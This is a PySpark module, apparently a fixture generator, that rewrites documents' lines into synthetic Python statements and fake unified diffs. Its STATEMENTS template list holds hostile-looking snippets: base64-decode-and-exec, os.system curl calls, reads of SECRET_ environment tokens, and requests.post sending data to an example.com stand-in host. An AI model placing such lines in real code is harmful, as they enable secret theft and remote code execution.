"""How the given tables stand for release data; each as a DataFrame and as the same thing in SQL.

A document is a file of its source, a later document of a source a later version. Documents hold no program
code, so `code_lines` puts words of each of their lines into one of sixteen statements: lines grow with the table.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions.text import lines_of
from ..operators.lines import file_lines

#: {w}: the line's first word of letters a-z, or x. The line after statement i is statement i + 3: calls of 1 and 12 go on in the next line.
STATEMENTS = (
    "import os, base64, {w}", "data = base64.b64decode", "exec(data)  # {w}", "os.system('curl http://{w}')", "('{w}'); token = os.environ['SECRET_{w}']", "requests.post('http://{w}.example.com', data)",
    "from subprocess import Popen, {w}", "x = getattr(os, 'system')", "sock.connect(('93.184.216.34', 80)); host = '10.1.2.3'", "ip = 'http://8.8.8.8/{w}'", "sys.exit(1)", "# comment {w}",
    "atexit.register", "m = __import__('{w}')", "eval(compile({w}, 'f', 'exec'))", "({w}); requests.get('https://pypi.org/{w}')",
)

SQL_LINES = r"""
    lines AS (SELECT doc_id, source, lang, unnest(generate_series(1, len(l))) AS line_no, unnest(l) AS line
              FROM (SELECT doc_id, source, lang, CASE WHEN l[len(l)] = '' THEN l[:len(l) - 1] ELSE l END AS l
                    FROM (SELECT doc_id, source, lang, regexp_split_to_array(coalesce(text, ''), '\r\n|[\n\r\x0b\x0c\x1c-\x1e\x{85}\x{2028}\x{2029}]') AS l FROM documents)))"""


def sql_code() -> str:
    words = "coalesce(nullif(regexp_extract(line, '[a-z]+'), ''), 'x')"
    cases = " ".join(f"WHEN {i} THEN '" + s.replace("'", "''").replace("{w}", f"' || {words} || '") + "'" for i, s in enumerate(STATEMENTS))
    return SQL_LINES + f",\n    code AS (SELECT doc_id, source, lang, line_no, CASE (doc_id * 7 + line_no * 3) % 16 {cases} END AS line FROM lines)"


def documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/documents.parquet")


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def doc_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    return file_lines(documents(spark, sf_dir), "text", ("doc_id", "source", "lang"))


def code_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    word = F.coalesce(F.nullif(F.regexp_extract("line", "[a-z]+", 0), F.lit("")), F.lit("x"))
    at = F.pmod(F.col("doc_id") * 7 + F.col("line_no") * 3, F.lit(16))
    made = F.lit(None).cast("string")
    for i, s in reversed(list(enumerate(STATEMENTS))):
        made = F.when(at == i, F.concat(*(F.lit(p) if j % 2 == 0 else word for j, p in enumerate(x for pair in zip(s.split("{w}"), ["{w}"] * 9) for x in pair) if j < 2 * len(s.split("{w}")) - 1))).otherwise(made)
    return doc_lines(spark, sf_dir).withColumn("line", made)


def code_diffs(spark: SparkSession, sf_dir: str) -> DataFrame:
    """file_id, path, content: each document's statements as a unified diff, every fourth line context, every fifth removed."""
    c = code_lines(spark, sf_dir)
    mark = F.when(F.col("line_no") % 4 == 0, " ").when(F.col("line_no") % 5 == 0, "-").otherwise("+")
    body = c.groupBy("doc_id").agg(F.array_join(F.transform(F.array_sort(F.collect_list(F.struct("line_no", F.concat(mark, F.col("line")).alias("raw")))), lambda x: x["raw"]), "\n").alias("body"))
    head = F.concat(F.lit("--- a\n+++ b\n@@ -1,1 +"), (F.col("doc_id") % 50 + 1).cast("string"), F.lit(",1 @@\n"))
    return body.select(F.col("doc_id").alias("file_id"), F.concat(F.lit("pkg/m"), F.col("doc_id").cast("string"), F.lit(".py")).alias("path"), F.concat(head, F.col("body")).alias("content"))


__all__ = ["STATEMENTS", "SQL_LINES", "sql_code", "documents", "table", "doc_lines", "code_lines", "code_diffs", "lines_of"]
